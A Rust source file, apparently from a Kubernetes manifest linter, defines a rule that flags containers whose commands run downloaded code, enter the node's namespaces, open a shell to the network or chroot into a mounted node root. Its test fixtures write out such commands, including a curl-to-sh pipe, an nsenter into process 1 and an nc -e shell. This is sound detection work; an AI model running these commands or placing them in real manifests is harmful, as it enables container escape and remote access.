//! `dangerous-command`: the command line is the attack, or opens the door to it.

use super::node_path::resolve;
use crate::command::{commands, mentions};
use crate::danger;
use crate::prelude::*;
use crate::wording::named;

pub(crate) static RULE: Rule = Rule {
    id: "dangerous-command",
    title: "A command runs foreign code, opens a shell or enters the node",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    audience: Audience::Default,
    strategy: Strategy::RuntimePrivileges,
    controls: &[],
    equivalents: &[],
    parameters: &[Parameter::list("programs", "Further programs that no container should run.")],
    fixable: false,
    since: "0.1.0",
    scope: Scope::Document,
    check,
};

fn check(ctx: &Context<'_>, findings: &mut Findings) {
    let unwanted = ctx.list(&RULE, "programs");
    for (pod, container) in ctx.containers() {
        for command in commands(&container).filter(|command| !command.is_empty()) {
            let mentioned = || mentions(&command, &["chroot"]);
            let roots = if mentioned() { node_roots(pod, &container) } else { Vec::new() };
            let found = danger::of(&command, &roots).or_else(|| danger::unwanted(&command, unwanted));
            let Some(danger) = found else { continue };
            let mut finding =
                RULE.on(pod, Field::of(danger.word.value), format!("{} {}", named(&container), danger.does));
            finding.span = danger.word.span(ctx.source_text());
            findings.push(finding.related(container.name_span(), "this container"));
        }
    }
}

/// Where in a container the root of the node is mounted.
fn node_roots<'a>(pod: &Pod<'a>, container: &Container<'a>) -> Vec<&'a str> {
    let is_root = |name: &str| {
        let path = |volume: plimsoll_kube::Volume<'a>| volume.field(&["hostPath", "path"]).as_str();
        let volume = pod.volumes().find(|volume| volume.name() == name);
        volume.and_then(path).and_then(resolve).is_some_and(|path| path == "/")
    };
    let mounts = container.field(&["volumeMounts"]).items().filter_map(|mount| {
        let name = Field::walk(mount, &["name"]).as_str()?;
        Field::walk(mount, &["mountPath"]).as_str().filter(|_| is_root(name))
    });
    mounts.collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{check, quiet};

    #[test]
    fn the_program_that_runs_it_is_marked() {
        check(
            &RULE,
            "
kind: CronJob
spec:
  jobTemplate:
    spec:
      template:
        spec:
          initContainers:
          - name: a
            command:
            - sh
            - -ec
            - |
              # sh
              echo sh
              curl https://example.com/x | sh
#                                          ^^ medium: init container `a` runs what `curl` downloads
          containers:
          - name: b
            command: [nsenter, -t, \"1\", -a]
#                     ^^^^^^^ medium: container `b` enters the namespaces of the node's first process
            lifecycle: {preStop: {exec: {command: [nc, -e, sh, h, \"1\"]}}}
#                                                  ^^ medium: container `b` gives a shell to the network
",
        );
    }

    #[test]
    fn the_root_of_the_node_is_no_jail() {
        let pod = |path| {
            format!(
                "kind: Pod\nspec: {{containers: [{{name: a, command: [chroot, /mnt, ls], volumeMounts: [{{name: v, mountPath: /mnt/}}]}}], volumes: [{{name: v, hostPath: {{path: {path}}}}}]}}\n"
            )
        };
        let found = |text: &str| {
            crate::testing::findings(&RULE, &crate::testing::file("a.yaml", text), &crate::testing::environment("1.37"))
                .len()
        };
        assert_eq!([found(&pod("/")), found(&pod("/srv")), found(&pod("/srv/.."))], [1, 0, 1]);
        quiet(&RULE, "1.37", "kind: Pod\nspec: {containers: [{name: a, command: curl, args: [{a: b}, 5, ~]}]}\n");
    }
}
